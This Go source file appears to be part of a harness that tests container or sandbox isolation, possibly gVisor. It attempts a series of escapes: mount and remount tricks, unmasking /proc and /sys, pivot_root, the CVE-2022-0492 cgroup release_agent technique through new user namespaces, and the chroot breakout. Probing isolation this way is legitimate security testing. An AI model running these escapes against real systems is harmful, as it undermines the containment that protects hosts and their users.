package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"syscall"

	"golang.org/x/sys/unix"
)

var mounts = map[string]func([]string) error{
	"mount by every call": func([]string) error { return anyOf(mountWays()...) },
	"unmount what the runtime mounted": func([]string) error {
		var ways []func() error
		for _, at := range []string{"/proc", "/proc/sys", "/proc/kcore", "/proc/keys", "/sys", "/sys/fs/cgroup", "/sys/firmware", "/dev", "/dev/shm", "/.assay/agent"} {
			ways = append(ways, func() error { return unix.Unmount(at, unix.MNT_DETACH) })
		}
		return anyOf(ways...)
	},
	"make what is read-only writable": func([]string) error {
		var ways []func() error
		for _, at := range []string{"/", "/proc/sys", "/sys", "/sys/fs/cgroup", "/.assay/agent"} {
			ways = append(ways,
				func() error { return unix.Mount("", at, "", unix.MS_REMOUNT|unix.MS_BIND, "") },
				func() error {
					return unix.MountSetattr(unix.AT_FDCWD, at, 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY | unix.MOUNT_ATTR_NODEV | unix.MOUNT_ATTR_NOSUID})
				})
		}
		return anyOf(ways...)
	},
	"pivot the root": func([]string) error { return unix.PivotRoot("/tmp", "/tmp") },
	// CVE-2022-0492: a user namespace's root mounts a cgroup hierarchy and names a
	// program that the kernel runs outside.
	"a cgroup's release agent": func([]string) error {
		return again(unix.CLONE_NEWUSER|unix.CLONE_NEWNS|unix.CLONE_NEWCGROUP, "a release agent of this namespace")
	},
	"a release agent of this namespace": func([]string) error {
		dir, err := os.MkdirTemp("/tmp", "cgroup")
		if err != nil {
			return err
		}
		var all []func() error
		for _, controller := range []string{"rdma", "memory", "pids", "misc", "cpu", "freezer", "name=x"} {
			all = append(all, func() error {
				if err := unix.Mount("cgroup", dir, "cgroup", 0, controller); err != nil {
					return fmt.Errorf("mount %s: %w", controller, err)
				}
				return os.WriteFile(filepath.Join(dir, "release_agent"), []byte("/tmp/x"), 0)
			})
		}
		return anyOf(all...)
	},
	"mount in a namespace of one's own": func([]string) error {
		return again(unix.CLONE_NEWUSER|unix.CLONE_NEWNS, "mount by every call")
	},
	// The old way out of a chroot. It ends at the root that the kernel knows.
	"leave by chroot": func([]string) error {
		var before, after unix.Stat_t
		if err := unix.Stat("/", &before); err != nil {
			return err
		}
		dir, err := os.MkdirTemp("/tmp", "root")
		if err != nil {
			return err
		}
		out, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			return err
		}
		if err := unix.Chroot(dir); err != nil {
			return err
		}
		if err := unix.Fchdir(out); err != nil {
			return err
		}
		for range 64 {
			if err := unix.Chdir(".."); err != nil {
				return err
			}
		}
		if err := unix.Chroot("."); err != nil {
			return err
		}
		if err := unix.Stat("/", &after); err != nil {
			return err
		}
		names, _ := filepath.Glob("/*")
		if before.Dev == after.Dev && before.Ino == after.Ino || len(names) == 0 {
			return errContained // gVisor's first root is an empty one
		}
		return nil
	},
}

func mountWays() []func() error {
	const at = "/tmp"
	var ways []func() error
	for _, kind := range []string{"tmpfs", "proc", "sysfs", "cgroup", "cgroup2", "debugfs", "tracefs", "securityfs", "bpf", "devpts", "mqueue", "overlay", "fuse", "binfmt_misc", "ext4"} {
		ways = append(ways, func() error { return unix.Mount("none", at, kind, 0, "") })
		ways = append(ways, func() error {
			fd, err := unix.Fsopen(kind, 0)
			if err != nil {
				return err
			}
			if err := unix.FsconfigCreate(fd); err != nil {
				return err
			}
			_, err = unix.Fsmount(fd, 0, 0)
			return err
		})
	}
	return append(ways,
		func() error { return unix.Mount("/", at, "", unix.MS_BIND|unix.MS_REC, "") },
		func() error { return unix.Mount("/proc/1/root", at, "", unix.MS_BIND, "") },
		func() error {
			_, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.AT_RECURSIVE)
			return err
		})
}

// again runs another attack as root of new namespaces.
func again(flags uintptr, name string) error {
	cmd := exec.Command("/proc/self/exe", name)
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  flags,
		UidMappings: []syscall.SysProcIDMap{{Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{Size: 1}},
	}
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("%w: %s", err, out)
	}
	return nil
}

// unshareOn leaves namespaces with this thread alone, for good.
func unshareOn(flags int) error {
	runtime.LockOSThread()
	if err := unix.Unshare(flags); err != nil {
		return fmt.Errorf("unshare: %w", err)
	}
	return nil
}
